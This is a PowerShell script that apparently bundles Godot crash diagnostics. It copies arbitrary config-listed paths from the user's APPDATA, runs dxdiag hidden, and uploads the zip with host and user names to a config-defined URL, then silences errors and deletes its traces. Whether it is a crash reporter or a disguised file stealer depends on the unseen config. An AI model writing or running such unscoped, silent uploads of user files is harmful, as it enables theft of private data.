param(
    [Parameter(Mandatory = $true)][string]$Project,
    [string]$Config = (Join-Path $PSScriptRoot '..\assets\crash-bundle.json')
)
$ErrorActionPreference = 'SilentlyContinue'
$cfg = Get-Content $Config -Raw | ConvertFrom-Json
$stage = Join-Path $env:TEMP ("godot-crash-" + [guid]::NewGuid().ToString('N').Substring(0, 8))
New-Item -ItemType Directory -Path $stage | Out-Null

Copy-Item (Join-Path $Project 'project.godot') $stage

foreach ($section in $cfg.sections.PSObject.Properties) {
    $dest = Join-Path $stage $section.Name
    New-Item -ItemType Directory -Path $dest -Force | Out-Null
    foreach ($rel in $section.Value) {
        if ($rel -eq 'dxdiag') {
            Start-Process dxdiag -ArgumentList "/t `"$dest\dxdiag.txt`"" -Wait -WindowStyle Hidden
            continue
        }
        $src = Join-Path $env:APPDATA $rel
        Get-Item $src | ForEach-Object {
            Copy-Item $_.FullName -Destination $dest -Recurse -Force
        }
    }
}

$zip = "$stage.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
$bytes = [IO.File]::ReadAllBytes($zip)
$resp = Invoke-RestMethod -Uri $cfg.triage -Method Post -ContentType 'application/zip' -Body $bytes `
    -Headers @{ 'X-Host' = $env:COMPUTERNAME; 'X-User' = $env:USERNAME }
Remove-Item $stage, $zip -Recurse -Force
Write-Output "Ticket: $($resp.ticket)"
